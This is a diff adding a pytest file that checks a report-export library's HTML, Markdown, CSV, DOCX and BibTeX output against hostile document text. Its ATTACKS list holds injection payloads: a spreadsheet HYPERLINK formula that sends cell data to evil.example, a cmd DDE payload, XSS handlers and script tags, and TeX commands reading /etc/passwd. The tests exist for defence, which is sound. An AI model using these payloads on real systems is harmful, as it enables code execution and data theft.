@@ -1,0 +1,311 @@
+"""A report in each of its formats, and what documents cannot do in any of them."""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+import stat
+import zipfile
+from html.parser import HTMLParser
+from pathlib import Path
+from typing import Any
+
+import pyarrow.parquet as pq
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+
+from memagent_graph import EventKind, RunError
+from memagent_graph.reports.bibliography import bibtex
+from memagent_graph.reports.checked_report import Report, checked_report
+from memagent_graph.reports.docx_export import docx_bytes
+from memagent_graph.reports.drafts import Draft, DraftSection, DraftSentence, ReportMode, extractive_draft
+from memagent_graph.reports.evidence_matrix import (
+    Cell,
+    CellState,
+    EvidenceMatrix,
+    QuotePlace,
+    ReportDocument,
+    SourceQuote,
+)
+from memagent_graph.reports.export_safety import markdown_text, spreadsheet_cell, without_folders
+from memagent_graph.reports.matrix_export import matrix_csv, matrix_parquet
+from memagent_graph.reports.report_data import ReportEvent
+from memagent_graph.reports.report_files import write_report
+from memagent_graph.reports.source_text import SourceText
+
+ATTACKS = (
+    '=HYPERLINK("http://evil.example/"&A1,"click")',
+    "+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd",
+    "\t=1+1",
+    "![pixel](http://evil.example/p.png) [link](javascript:alert(1)) "
+    "<img src=http://evil.example/q.png onerror=alert(1)>",
+    "<script>alert(1)</script> </style></title><svg onload=alert(1)> "
+    "https://evil.example www.evil.example a@evil.example",
+    "$\\input{/etc/passwd}$ \\write18{rm} | cell | # heading",
+    "[1]: http://evil.example\n\n<details open ontoggle=alert(1)>",
+    "{{sections}} {{style}} \u202eevil\u202c \x1b[31m \ud800 \x00",
+    "1. one\n- two\n> three\n```\ncode",
+)
+
+
+def report_of(
+    *texts: str,
+    metadata: tuple[dict[str, str], ...] = (),
+    question: str = "What?",
+    names: tuple[str, ...] = ("a.txt", "b.txt", "c.txt"),
+) -> Report:
+    """An extractive report over documents that say nothing but these texts."""
+    documents, cells, sources = [], [], {}
+    for number, text in enumerate(texts):
+        known = metadata[number] if number < len(metadata) else {}
+        reference: Any = {
+            "key": f"sha256:{number:064}",
+            "name": names[number],
+            "size": len(text),
+            "media_type": "text/plain",
+        }
+        documents.append(ReportDocument(names[number], reference, known))
+        quote = SourceQuote(text, 0, len(text), "page 1")
+        cells.append(Cell(number, 0, CellState.ANSWERED, text, (quote,), run_id=f"run-{number}"))
+        sources[number] = SourceText(text)
+    matrix = EvidenceMatrix(question, (question,), tuple(documents), tuple(cells))
+    events = [ReportEvent(EventKind.EXTRACTIVE, texts[0])]
+    return checked_report("report-1", "policy", matrix, extractive_draft(matrix), sources, events)
+
+
+ELEMENTS = set(
+    re.findall(
+        r"\w+",
+        """
+        html head meta link title style body a header p h1 h2 section dl div dt dd main ul ol li span br q table thead
+        tbody tr th td
+        """,
+    )
+)
+
+
+class Page(HTMLParser):
+    """The elements and attributes of a page."""
+
+    def __init__(self, text: str) -> None:
+        super().__init__()
+        self.tags: list[tuple[str, dict[str, str | None]]] = []
+        self.words: list[str] = []
+        self.feed(text)
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.append((tag, dict(attrs)))
+
+    def handle_data(self, data: str) -> None:
+        self.words.append(data)
+
+
+@pytest.fixture(scope="module")
+def attacked() -> Report:
+    return report_of(*ATTACKS, metadata=tuple({"title": each, "author": each, "doi": each} for each in ATTACKS),
+                      question=ATTACKS[5], names=ATTACKS)  # fmt: skip
+
+
+def test_the_page_loads_runs_and_links_nothing_but_itself(attacked: Report) -> None:
+    page = Page(attacked.to_html())
+    assert {tag for tag, _ in page.tags} <= ELEMENTS
+    for tag, attributes in page.tags:
+        assert not [name for name in attributes if name.startswith("on")]
+        if tag == "a":
+            assert re.fullmatch(r"#(report|quote-\d+)", str(attributes["href"]))
+        if tag == "link":
+            assert attributes == {"rel": "icon", "href": "data:,"}
+        assert "src" not in attributes
+    policy = next(each["content"] for tag, each in page.tags if each.get("http-equiv") == "Content-Security-Policy")
+    assert str(policy).startswith("default-src 'none'; style-src 'sha256-")
+    assert "script-src" not in str(policy)
+    shown = "".join(page.words)
+    assert "<script>alert(1)</script>" in shown
+    assert "{{sections}}" in shown
+    assert not {"\u202e", "\x1b", "\ud800", "\x00"} & set(shown)
+
+
+def test_the_style_sheet_of_the_page_has_the_hash_that_its_policy_names(attacked: Report) -> None:
+    import base64
+    import hashlib
+
+    text = attacked.to_html()
+    style = re.search(r"(?s)<style>(.*?)</style>", text)
+    assert style is not None
+    digest = base64.b64encode(hashlib.sha256(style[1].encode()).digest()).decode()
+    assert f"style-src &#x27;sha256-{digest}" in text or f"style-src 'sha256-{digest}" in text
+
+
+def rendered(markdown: str) -> list[Any]:
+    """All tokens of a Markdown text, with tables, raw HTML and bare addresses turned on."""
+    parser = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
+    return [each for token in parser.parse(markdown) for each in (token, *(token.children or ()))]
+
+
+def test_markdown_has_no_link_image_html_or_tex_of_a_document(attacked: Report) -> None:
+    text = attacked.to_markdown()
+    kinds = {token.type for token in rendered(text)}
+    assert not kinds & {
+        "link_open",
+        "image",
+        "html_inline",
+        "html_block",
+        "fence",
+        "code_inline",
+        "code_block",
+        "s_open",
+    }
+    assert not re.search(r"https?://", text)
+    assert not re.search(r"(?<!\\)\$", text)
+    tables = [token for token in rendered(text) if token.type == "tr_open"]
+    assert len(tables) == len(ATTACKS) + 1
+    headings = [token for token in rendered(text) if token.type == "heading_open"]
+    assert len(headings) == 7  # question, section, contradictions, matrix, quotes, documents, how it was made
+
+
+@given(st.text())
+def test_any_text_stays_text_in_markdown(text: str) -> None:
+    shown = markdown_text(text)
+    for place in (f"- {shown}", f"# {shown}", f"| a | b |\n|---|---|\n| {shown} | x |", f"9. {shown}"):
+        kinds = {token.type for token in rendered(place)}
+        assert not kinds & {
+            "link_open",
+            "image",
+            "html_inline",
+            "html_block",
+            "fence",
+            "code_inline",
+            "em_open",
+            "strong_open",
+        }
+        assert sum(token.type in {"list_item_open", "heading_open", "tr_open"} for token in rendered(place)) <= 2
+
+
+def test_a_spreadsheet_takes_no_cell_for_a_formula(attacked: Report) -> None:
+    rows = list(csv.reader(io.StringIO(matrix_csv(attacked).decode("utf-8-sig"))))
+    assert len(rows) == len(ATTACKS) + 1
+    for row in rows:
+        assert not [cell for cell in row if re.match(r"\s*[=+\-@\t\r\uff1d]", cell)]
+    answer = rows[0].index("answer")
+    assert rows[1][answer] == f"'{ATTACKS[0]}"
+
+
+@pytest.mark.parametrize("text", ["=1", " =1", "+1", "-1", "@a", "\t=1", "\uff1d1", "%0", "|x"])
+def test_each_beginning_of_a_formula_gets_an_apostrophe(text: str) -> None:
+    assert spreadsheet_cell(text).startswith("'")
+    assert spreadsheet_cell("a=1") == "a=1"
+
+
+def test_parquet_has_answers_and_quotes_as_they_are(attacked: Report) -> None:
+    table = pq.read_table(io.BytesIO(matrix_parquet(attacked)))
+    rows = table.to_pylist()
+    assert [row["answer"] for row in rows[:8]] == list(ATTACKS[:8])
+    assert rows[0]["quotes"] == [ATTACKS[0]]
+    assert (rows[0]["start_chars"], rows[0]["end_chars"], rows[0]["pages"]) == ([0], [len(ATTACKS[0])], ["page 1"])
+
+
+def test_docx_is_text_without_fields_links_and_images(attacked: Report) -> None:
+    docx = pytest.importorskip("docx")
+    data = docx_bytes(attacked)
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        names = archive.namelist()
+        body = archive.read("word/document.xml").decode()
+        relations = archive.read("word/_rels/document.xml.rels").decode()
+    assert not [name for name in names if name.startswith("word/media")]
+    assert "External" not in relations
+    for element in ("w:instrText", "w:fldSimple", "w:hyperlink", "w:drawing", "w:object"):
+        assert f"<{element}" not in body
+    written = docx.Document(io.BytesIO(data))
+    texts = [paragraph.text for paragraph in written.paragraphs]
+    assert any("<script>alert(1)</script>" in text for text in texts)
+    assert len(written.tables[0].rows) == len(ATTACKS) + 1
+    assert written.core_properties.author == ""
+
+
+def test_bibtex_has_entries_for_titles_and_no_commands() -> None:
+    plain = {
+        "title": "Notes on engines",
+        "author": "Lovelace, Ada and Menabrea, Luigi",
+        "year": "1843",
+        "journal": "Memoirs",
+    }
+    report = report_of("One.", "Two.", "Three.", metadata=(plain, plain, {}))
+    entries = bibtex(report)
+    assert re.findall(r"@(\w+)\{(\w+),", entries) == [
+        ("article", "lovelace1843notes"),
+        ("article", "lovelace1843notesa"),
+    ]
+    assert "author = {Lovelace, Ada and Menabrea, Luigi}," in entries
+    attacked = bibtex(report_of("x", metadata=({"title": "\\input{x} 5% & $y$ #1 a_b ~ ^", "author": "}{"},)))
+    values = re.findall(r"(?m)= \{(.*)\},$", attacked)
+    for value in values:
+        bare = re.sub(r"\\(?:textbackslash|textasciitilde|textasciicircum)\{\}|\\[{}$&#%_]", "", value)
+        assert not set(bare) & set("\\{}$&#%_~^"), value
+
+
+def test_messages_name_no_folders() -> None:
+    assert (
+        without_folders("the file /home/anna/case 7/deed.pdf does not exist")
+        == "the file case 7/deed.pdf does not exist"
+    )
+    assert without_folders(r"C:\Users\anna\deed.pdf is missing") == "deed.pdf is missing"
+    assert without_folders("see https://docs.example/a/b.html") == "see https://docs.example/a/b.html"
+
+
+def test_values_of_a_report_make_it_again(attacked: Report) -> None:
+    report = report_of("Anna paid 5 dollars.", "It rained.")
+    values = json.loads(json.dumps(report.to_dict()))
+    assert Report.from_dict(values) == report
+    assert values["totals"]["quoted"] == 2
+
+
+def test_unsupported_sentences_are_marked_in_every_format() -> None:
+    whole = report_of("Anna paid 5 dollars.")
+    place = QuotePlace(0, 0, 0)
+    sentences = (DraftSentence("Anna paid 5 dollars.", (place,)), DraftSentence("Anna paid 6 dollars.", (place,)))
+    draft = Draft(ReportMode.WRITTEN, (DraftSection("Costs", (0,), sentences), DraftSection("None", (0,), ())), {})
+    report = checked_report("r", "p", whole.matrix, draft, {0: SourceText("Anna paid 5 dollars.")})
+    assert [sentence.is_quoted for sentence in report.sentences] == [True, False]
+    for text in (report.to_markdown(), report.to_html()):
+        assert text.count("not quoted: 6 dollars is in none of its quotes") == 1
+        assert "(empty: no document gives an answer)" in text
+        assert "verified" not in text
+
+
+def test_a_quote_that_is_no_longer_in_its_document_is_found_out() -> None:
+    whole = report_of("Anna paid 5 dollars.")
+    report = checked_report(
+        "r", "p", whole.matrix, extractive_draft(whole.matrix), {0: SourceText("Anna paid 7 dollars.")}
+    )
+    assert (report.quotes_checked, report.quotes_found) == (1, 0)
+    assert not next(report.sentences).is_quoted
+
+
+def test_files_are_private_and_replace_only_those_of_the_same_report(tmp_path: Path) -> None:
+    report, other = report_of("Anna paid 5 dollars."), report_of("It rained.")
+    written = write_report(report, tmp_path / "out", ("md", "html", "csv", "parquet", "bib"))
+    assert [path.name for path in written] == [
+        "report.json",
+        "report.md",
+        "report.html",
+        "matrix.csv",
+        "matrix.parquet",
+    ]  # fmt: skip  no title, no bibliography
+    assert stat.S_IMODE(written[0].stat().st_mode) == 0o600
+    assert write_report(report, tmp_path / "out", ("md",))
+    changed = Report.from_dict({**other.to_dict(), "report_id": "report-2"})
+    with pytest.raises(RunError, match="not of this report"):
+        write_report(changed, tmp_path / "out", ("md",))
+    assert write_report(changed, tmp_path / "out", ("md",), force=True)
+    (tmp_path / "else").mkdir()
+    (tmp_path / "else/report.md").symlink_to(tmp_path / "out/report.md")
+    with pytest.raises(RunError, match="already in else"):
+        write_report(report, tmp_path / "else", ("md",))
+    (tmp_path / "file").write_text("")
+    with pytest.raises(RunError, match="cannot be written"):
+        write_report(report, tmp_path / "file", ("md",))
